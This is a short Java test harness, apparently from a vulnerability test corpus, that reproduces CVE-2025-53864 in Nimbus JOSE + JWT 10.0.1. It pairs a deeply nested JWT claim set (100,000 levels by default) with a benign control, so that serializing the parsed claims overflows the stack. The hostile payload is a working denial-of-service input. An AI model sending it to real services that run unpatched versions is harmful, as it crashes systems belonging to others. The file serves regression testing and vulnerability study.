package corpus.nimbus;

import com.nimbusds.jwt.JWTClaimsSet;
import corpus.CorpusDriver;

/**
 * Nimbus JOSE + JWT 10.0.1, CVE-2025-53864: a claim set whose JSON nests objects without limit is
 * accepted by {@code JWTClaimsSet.parse} (its shaded Gson reads iteratively), and writing it back as
 * JSON ({@code toString}, {@code toPayload}, signing) recurses through the shaded Gson's type
 * adapters ({@code MapTypeAdapterFactory$Adapter#write} and {@code TypeAdapterRuntimeTypeWrapper#write},
 * joined through the abstract {@code TypeAdapter#write}) until the stack runs out. 10.0.2 (and
 * 9.37.4) reject such a claim set when parsing it.
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = "{\"sub\":\"corpus\",\"c\":" + CorpusDriver.nested("{\"a\":", "1", "}", depth) + "}";
        CorpusDriver.run("nimbus", JWTClaimsSet.class,
                () -> JWTClaimsSet.parse("{\"sub\":\"benign\",\"c\":{\"items\":[1,{\"b\":2}],\"map\":{\"a\":\"b\"}}}").toString(),
                () -> JWTClaimsSet.parse(hostile).toString());
    }
}
